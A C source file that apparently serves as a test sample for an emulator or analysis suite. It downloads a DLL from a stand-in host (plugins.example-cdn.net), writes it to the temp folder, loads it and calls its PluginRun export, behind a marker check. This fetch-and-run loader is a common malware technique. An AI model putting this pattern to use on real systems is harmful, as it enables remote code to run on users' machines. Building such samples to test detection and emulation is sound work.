/*
 * fetcher.c - generality suite: fetch a DLL, write it to %TEMP%, load it, call an export.
 * Benign, emulator-only (see ../../lineage-common/common.h).
 *
 * GETs http://plugins.example-cdn.net/v2/plugin.dll with WinINet, writes it to
 * %TEMP%\plugin.dll, LoadLibraryA's it and calls its export PluginRun (src/plugin.c), which
 * writes C:\Users\Public\lineage_plugin.txt.
 * Exit codes: 0 ok, 1 no marker, 2 network, 3 file, 4 load, 5 export.
 */
#include "common.h"
#include <wininet.h>

static unsigned char g_body[0x10000];

void Entry(void)
{
    typedef DWORD (WINAPI *run_t)(void);
    char path[MAX_PATH + 16];
    HINTERNET net, url;
    DWORD got, total = 0, n, written;
    HANDLE f;
    HMODULE mod;
    run_t run;

    if (!marker_present())
        ExitProcess(1);
    net = InternetOpenA("Mozilla/5.0 (compatible; chainreplay-demo)", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    if (!net)
        ExitProcess(2);
    url = InternetOpenUrlA(net, "http://plugins.example-cdn.net/v2/plugin.dll", 0, 0, INTERNET_FLAG_RELOAD, 0);
    if (!url)
        ExitProcess(2);
    while (total < sizeof(g_body) && InternetReadFile(url, g_body + total, sizeof(g_body) - total, &got) && got)
        total += got;
    InternetCloseHandle(url);
    InternetCloseHandle(net);
    if (total < 0x200)
        ExitProcess(2);
    n = GetTempPathA(MAX_PATH, path);
    if (n == 0 || n > MAX_PATH)
        ExitProcess(3);
    if (path[n - 1] != '\\')
        path[n++] = '\\';
    copy_str(path + n, "plugin.dll", 16);
    f = CreateFileA(path, GENERIC_WRITE, 0, 0, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE || !WriteFile(f, g_body, total, &written, 0))
        ExitProcess(3);
    CloseHandle(f);
    mod = LoadLibraryA(path);
    if (!mod)
        ExitProcess(4);
    run = (run_t)(void *)GetProcAddress(mod, "PluginRun");
    if (!run)
        ExitProcess(5);
    run();
    ExitProcess(0);
}
